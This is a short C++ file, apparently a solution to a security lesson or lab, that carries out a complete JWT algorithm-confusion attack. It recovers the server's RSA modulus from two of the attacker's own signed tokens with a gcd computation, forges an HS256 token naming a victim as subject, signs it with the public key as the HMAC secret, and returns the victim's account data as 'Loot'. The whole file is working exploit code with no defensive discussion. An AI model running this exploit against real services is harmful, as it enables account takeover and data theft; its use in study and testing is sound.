// Unusual: asks for the divisor of one number and of the difference, which is the same.
#include "base/base64url.hpp"
#include "jwt/token_parts.hpp"
#include "recovered_key.hpp"

namespace lesson {
namespace {

BigNumber multiple_of_n(const std::string& token, unsigned e) {
  const auto parts = jwt::split_token(token).value();
  const auto signature = base::base64url_decode(parts.signature).value();
  return power(BigNumber(signature), e) - padded_hash(parts.signed_bytes, signature.size());
}

}  // namespace

Loot attack(const Evidence& evidence) {
  const auto m = [&](const std::string& token) { return multiple_of_n(token, evidence.exponent); };
  const auto a = m(evidence.own_tokens[0]), b = m(evidence.own_tokens[1]);
  const auto n = without_small_factors(without_small_factors(gcd(b, a - b)));
  DecodedToken token = decoded(evidence.own_tokens[0]);
  token.header = {{"typ", "at+jwt"}, {"alg", "HS256"}};
  token.claims.set("sub", evidence.victim);
  const auto answer = evidence.show_me(sign_hs256(token, public_key_text(n, evidence.exponent)));
  return {.account = answer.status == 200 ? answer.body : std::string()};
}

}  // namespace lesson
